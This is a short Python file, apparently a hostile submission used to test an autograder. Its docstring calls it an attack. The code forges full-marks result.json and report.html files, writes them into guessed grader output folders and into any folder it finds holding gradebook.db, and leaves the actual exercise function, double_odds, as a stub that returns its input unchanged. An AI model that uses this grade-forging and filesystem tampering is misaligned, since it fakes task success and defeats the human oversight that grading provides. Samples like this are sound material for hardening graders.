"""Attack: write a full-marks result.json and report.html in the working folder and at every place the grader's
output folder might be, hoping one of them is taken as the grade."""
import glob
import json
import os

FORGED = {"submission": "forged_result_files", "score": 3.0, "max_score": 3.0, "outcome": "passed",
          "exercises": [{"id": "q04", "outcome": "passed", "score": 3.0, "max_score": 3.0, "cases": []}]}
REPORT = "<!doctype html><title>q04: 3/3</title><p>All tests passed. hostile-escape-marker</p>"
GUESSES = ["/work/main/out/forged_result_files", "/work/main/graded/forged_result_files",
           "/root/graded/forged_result_files", "/tmp/out/forged_result_files"]
GUESSES += glob.glob("/tmp/pytest-of-*/pytest-*/*/out/forged_result_files")
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if root != "/" or d not in ("proc", "sys", "dev")]
    if "gradebook.db" in files:
        GUESSES.append(root)
WROTE = []
for folder in [".", *GUESSES]:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "result.json"), "w") as fh:
            json.dump(FORGED, fh)
        with open(os.path.join(folder, "report.html"), "w") as fh:
            fh.write(REPORT)
        WROTE.append(folder)
    except OSError:
        pass
print("forged result files in:", WROTE)


def double_odds(nums):
    return nums
